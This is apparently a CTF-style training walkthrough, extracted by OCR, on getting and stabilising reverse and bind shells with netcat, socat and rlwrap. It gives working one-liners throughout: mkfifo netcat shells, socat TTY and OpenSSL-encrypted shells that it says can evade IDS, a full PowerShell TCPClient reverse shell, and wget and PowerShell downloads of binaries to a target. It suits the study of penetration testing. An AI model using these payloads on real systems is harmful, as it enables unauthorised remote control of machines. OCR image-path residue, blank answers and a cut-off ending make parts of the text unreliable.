rlwrap is a program which, in simple terms, gives us access to history, tab autocompletion and the arrow keys immediately upon receiving a shell; however, some manual stabilisationmust still be utilised if you want to be able to use Ctrl + C inside the shell. rlwrap is not installed by default on Kali, so first install it with sudo apt install rlwrap.

To use rlwrap, we invoke a slightly different listener:

rlwrap nc -lvnp <port>

Prepending our netcat listener with “rlwrap” gives us a much more fully featured shell. This technique is particularly useful when dealing with Windows shells, which are otherwise notoriously difficult to stabilise. When dealing with a Linux target, it’s possible to completely stabilise, by using the same trick as in step three of the previous technique: background the shell with Ctrl + Z, then use stty raw -echo; fg to stabilise andre-enter the shell.

Technique 3: Socat

The third easy way to stabilise a shell is quite simply to use an initial netcat shell as a stepping stone into a more fully-featured socat shell. Bear in mind that this technique is limited to Linux targets, as a Socat shell on Windows will be no more stable than a netcat shell. To accomplish this method of stabilisation wewould first transfer a socat static compiled binary (a version of the program compiled to have no dependencies) up to the target machine. A typical way to achieve this would be using a webserver on the attacking machine inside the directory containing your socat binary (sudo python3 -m http.server 80), then, on the target machine, using the netcat shell to download the file. On Linux this would be accomplished with curl or wget (wget <LOCAL-IP>/socat -O /tmp/socat).

For the sake of completeness: in a Windows CLI environment the same can be done with Powershell, using either Invoke-WebRequest or a webrequest system class, depending on the version of Powershell installed (Invoke-WebRequest -uri <LOCAL-IP>/socat.exe -outfile C:\\Windows\temp\socat.exe). We will cover the syntax for sending and receiving shells with Socat in the upcoming tasks.

With any of the above techniques, it’s useful to be able to change your terminal tty size. This is something that your terminal will do automatically when using a regular shell; however, it must be done manually in a reverse or bind shell if you want to use something like a text editor which overwrites everything on the screen.

First, open another terminal andrun stty -a. This will give you a large stream of output. Note down the values for "rows" and columns:

Next, in your reverse/bind shell, type in:

stty rows <number>


stty cols <number>

Filling in the numbers you got from running the command in your own terminal.

This will change the registered width and height of the terminal, thus allowing programs such as text editors which rely on such information being accurate to correctly open.

Ques 6: How would you change your terminal size to have 238 columns?
Ans 6:
stty cols 238

Ques 7: What is the syntax for setting up a Python3 webserver on port 80?
Ans 7:
sudo python3 -m http.server 80


Socat is similar to netcat in some ways, but fundamentally different in many others. The easiest way to think about socat is as a connector between two points. In the interests of this room, this will essentially be a listening port and the keyboard, however, it could also be a listening port and a file, or indeed, two listening ports. All socat does is provide a link between two points — much like the portal gun from the Portal games!

Once again, let’s start with reverse shells.Reverse Shells

As mentioned previously, the syntax for socat gets a lot harder than that of netcat. Here’s the syntax for a basic reverse shell listener in socat:

socat TCP-L:<port> -

As always with socat, this is taking two points (a listening port, and standard input) and connecting them together. The resulting shell is unstable, but this will work on either Linux or Windows and is equivalent to nc -lvnp <port>.

On Windows we would use this command to connect back:

socat TCP:<LOCAL-IP>:<LOCAL-PORT> EXEC:powershell.exe,pipes

The “pipes” option is used to force powershell (or cmd.exe) to use Unix style standard input and output.

This is the equivalent commandfor a Linux Target:

socat TCP:<LOCAL-IP>:<LOCAL-PORT> EXEC:"bash -li"

Bind Shells

On a Linux target we would use the following command:

socat TCP-L:<PORT> EXEC:"bash -li"

On a Windows target we would use this command for our listener:

socat TCP-L:<PORT> EXEC:powershell.exe,pipes

We use the “pipes” argument to interface between the Unix and Windows ways of handling input and output in a CLI environment.

Regardless of the target, we use this command on our attacking machine to connect to the waiting listener.


Now let’s take a look at one of the more powerful uses for Socat: a fully stable Linux tty reverse shell. This will only work when the target is Linux, but issignificantly more stable. As mentioned earlier, socat is an incredibly versatile tool; however, the following technique is perhaps one of its most useful applications. Here is the new listener syntax:

socat TCP-L:<port> FILE:`tty`,raw,echo=0

Let’s break this command down into its two parts. As usual, we’re connecting two points together. In this case those points are a listening port, and a file. Specifically, we are passing in the current TTY as a file and setting the echo to be zero. This is approximately equivalent to using the Ctrl + Z, stty raw -echo; fg trick with a netcat shell -- with the added bonus of being immediately stable and hooking into a full tty.

The first listener can be connected to with any payload; however, this special listener must be activated with a very specific socat command. This means that the target must have socatinstalled. Most machines do not have socat installed by default, however, it’s possible to upload a precompiled socat binary, which can then be executed as normal.

The special command is as follows:

socat TCP:<attacker-ip>:<attacker-port> EXEC:"bash -li",pty,stderr,sigint,setsid,sane

This is a handful, so let’s break it down.

The first part is easy — we’re linking up with the listener running on our own machine. The second part of the command creates an interactive bash session with EXEC:"bash -li". We're also passing the arguments: pty, stderr, sigint, setsid and sane:

  • pty, allocates a pseudoterminal on the target — part of the stabilisation process
  • stderr, makes sure that any error messages get shown in the shell (often a problem with non-interactive shells)
  • sigint, passes any Ctrl + C commands through into the sub-process, allowing us to kill commands inside the shell
  • setsid, creates the process in a new session
  • sane, stabilises the terminal, attempting to “normalise” it.

That’s a lot to take in, so let’s see it in action.

As normal, on the left we have a listener running on our local attacking machine, on the right we have a simulation of a compromised target, running with a non-interactive shell. Using the non-interactive netcat shell, we execute the special socat command, and receive a fully interactive bash shell on the socat listener to the left:

Note that the socat shell is fully interactive, allowing us to use interactive commands such as SSH. This can then be further improved by setting the stty values as seen in the previous task, which will let us use text editors such as Vim or Nano.

If, at any point, asocat shell is not working correctly, it’s well worth increasing the verbosity by adding -d -d into the command. This is very useful for experimental purposes, but is not usually necessary for general use.

Ques 8: How would we get socat to listen on TCP port 8080?
Ans 8:

Socat Encrypted Shells

One of the many great things about socat is that it’s capable of creating encrypted shells — both bind and reverse. Why would we want to do this? Encrypted shells cannot be spied on unless you have the decryption key, and are often able to bypass an IDS as a result.

We covered how to create basic shells in the previous task, so that syntax will not be covered again here. Suffice to say that any time TCP was used as part of a command, this should be replaced with OPENSSL when working with encrypted shells. We'll cover a few examples at the end of the task, but first let's talk about certificates.

We first need to generate a certificate in order to use encrypted shells. This is easiest to do on our attacking machine:

openssl req --newkey rsa:2048 -nodes -keyout shell.key -x509 -days 362 -out shell.crt

This command creates a 2048 bit RSA key with matching cert file, self-signed, and valid for just under a year. When you run this command it will ask you to fill in information about the certificate. This can be left blank, or filled randomly.

We then need to merge the twocreated files into a single .pem file:

cat shell.key shell.crt > shell.pem

Now, when we set up our reverse shell listener, we use:

socat OPENSSL-LISTEN:<PORT>,cert=shell.pem,verify=0 -

This sets up an OPENSSL listener using our generated certificate. verify=0 tells the connection to not bother trying to validate that our certificate has been properly signed by a recognised authority. Please note that the certificate must be used on whichever device is listening.

To connect back, we would use:

socat OPENSSL:<LOCAL-IP>:<LOCAL-PORT>,verify=0 EXEC:/bin/bash

The same technique would apply for a bind shell:


socat OPENSSL-LISTEN:<PORT>,cert=shell.pem,verify=0 EXEC:cmd.exe,pipessocat OPENSSL:<TARGET-IP>:<TARGET-PORT>,verify=0 -

Again, note that even for a Windows target, the certificate must be used with the listener, so copying the PEM file across for a bind shell is required.

The following image shows an OPENSSL Reverse shell from a Linux target. As usual, the target is on the right, and the attacker is on the left:

This technique will also work with the special, Linux-only TTY shell covered in the previous task — figuring out the syntax for this will be the challenge for this task. Feel free to use the Linux Practice box (deployable at the end of the room) to experiment if you’re struggling to obtain the answer.

Ques 9: What is the syntax for setting up an OPENSSL-LISTENER using the tty technique from the previous task? Use port 53, and a PEM file called “encrypt.pem”
Ans 9:
socat OPENSSL-LISTEN:53,cert=encrypt.pem,verify=0 FILE:`tty`,raw,echo=0

Ques 10: If your IP is, what syntax would you use to connect back to this listener?
Ans 10:
socat OPENSSL:,verify=0 EXEC:”bash -li”,pty,stderr,sigint,setsid,sane

Common Shell Payloads

We’ll soon be looking at generating payloads with msfvenom, but before we do that, let’s take a look at some common payloads usingthe tools we’ve already covered.

A previous task mentioned that we’d be looking at some ways to use netcat as a listener for a bindshell, so we’ll start with that. In some versions of netcat (including the nc.exe Windows version included with Kali at /usr/share/windows-resources/binaries, and the version used in Kali itself: netcat-traditional) there is a -e option which allows you to execute a process on connection. For example, as a listener:

nc -lvnp <PORT> -e /bin/bash

Connecting to the above listener with netcat would result in a bind shell on the target.

Equally, for a reverse shell, connecting back with nc <LOCAL-IP> <PORT> -e /bin/bash would result in a reverse shell on the target.

However, this is not included in most versions of netcat as it is widely seen to be very insecure (funny that, huh?). On Windows where a static binary is nearly always required anyway, this technique will work perfectly. On Linux, however, we would instead use this code to create a listener for a bind shell:

mkfifo /tmp/f; nc -lvnp <PORT> < /tmp/f | /bin/sh >/tmp/f 2>&1; rm /tmp/f

The following paragraph is the technical explanation forthis command. It’s slightly above the level of this room, so don’t worry if it doesn’t make much sense for now — the command itself is what matters.

The command first creates a named pipe at /tmp/f. It then starts a netcat listener, and connects the input of the listener to the output of the named pipe. The output of the netcat listener (i.e. the commands we send) then gets piped directly into sh, sending the stderr output stream into stdout, and sending stdout itself into the input of the named pipe, thus completing the circle.

A very similar command can be used to send a netcat reverse shell:

mkfifo /tmp/f; nc <LOCAL-IP> <PORT> < /tmp/f | /bin/sh >/tmp/f 2>&1; rm /tmp/f

This command is virtually identical to the previous one, other thanusing the netcat connect syntax, as opposed to the netcat listen syntax.

When targeting a modern Windows Server, it is very common to require a Powershell reverse shell, so we’ll be covering the standard one-liner PSH reverse shell here.

This command is very convoluted, so for the sake of simplicity it will not be explained directly here. It is, however, an extremely useful one-liner to keep on hand:

powershell -c "$client = New-Object System.Net.Sockets.TCPClient('<ip>',<port>);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()"

In order to use this, we need to replace “<IP>” and “<port>” with an appropriate IP and choice of port. It can then be copied into a cmd.exe shell (or another method of executing commands on a Windows server, such as a webshell) and executed, resulting in a reverse shell:

For other common reverse shell payloads, PayloadsAllTheThings is a repository containing a wide range of shell codes (usually in one-liner format for copying and pasting), in many different languages. It is well worth reading through the linked page to see what’s available.

Ques 11: What command can be used to create a named pipe in Linux?
Ans 11:


Msfvenom: the one-stop-shop for all things payload related.Part of the Metasploit framework, msfvenom is used to generate code for primarily reverse and bind shells. It is used extensively in lower-level exploit development to generate hexadecimal shellcode when developing something like a Buffer Overflow exploit; however, it can also be used to generate payloads in various formats (e.g. .exe, .aspx, .war, .py). It's this latter function that we will be making use of in this room. There is more to teach about msfvenom than could ever be fit into a single room, let alone a single task, so the following information will be a brief introduction to the concepts that will prove useful for this room.

The standard syntax for msfvenom is as follows:

msfvenom -p <PAYLOAD> <OPTIONS>

For example, to generate a Windows x64 Reverse Shell in an exe format, we could use:

